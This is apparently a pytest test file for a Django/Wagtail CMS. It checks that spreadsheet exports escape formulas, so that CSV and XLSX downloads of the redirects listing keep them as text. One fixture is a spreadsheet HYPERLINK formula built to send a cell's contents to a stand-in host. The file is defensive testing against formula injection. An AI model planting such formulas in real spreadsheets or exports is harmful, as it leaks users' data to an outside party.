"""Every spreadsheet the admin hands out shows formulas as text instead of running them."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.contrib.redirects.models import Redirect

from cms.core.spreadsheets import neutralise_formula

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"Xem")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+84 912 345 678", "'+84 912 345 678"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("0912345678", "0912345678"),
        ("Nguyễn Văn An", "Nguyễn Văn An"),
        (" =1+2", " =1+2"),
        (-5, -5),
        (None, None),
    ],
)
def test_text_a_spreadsheet_would_run_starts_with_a_quote(value, expected):
    # when
    neutralised = neutralise_formula(value)

    # then
    assert neutralised == expected


def test_a_wagtail_csv_export_neutralises_formulas(admin_client_):
    # given: the redirects listing exports what editors typed
    Redirect.objects.create(old_path="/cu", redirect_link=FORMULA)

    # when
    response = admin_client_.get(reverse("wagtailredirects:index"), {"export": "csv"})

    # then
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [row[:2] for row in rows[1:]] == [["/cu", "'" + FORMULA]]


def test_a_wagtail_xlsx_export_keeps_formulas_as_text(admin_client_):
    # given
    Redirect.objects.create(old_path="/cu", redirect_link=FORMULA)

    # when
    response = admin_client_.get(reverse("wagtailredirects:index"), {"export": "xlsx"})

    # then
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    link = sheet["B2"]
    assert (link.value, link.data_type, link.quotePrefix) == (FORMULA, "s", True)
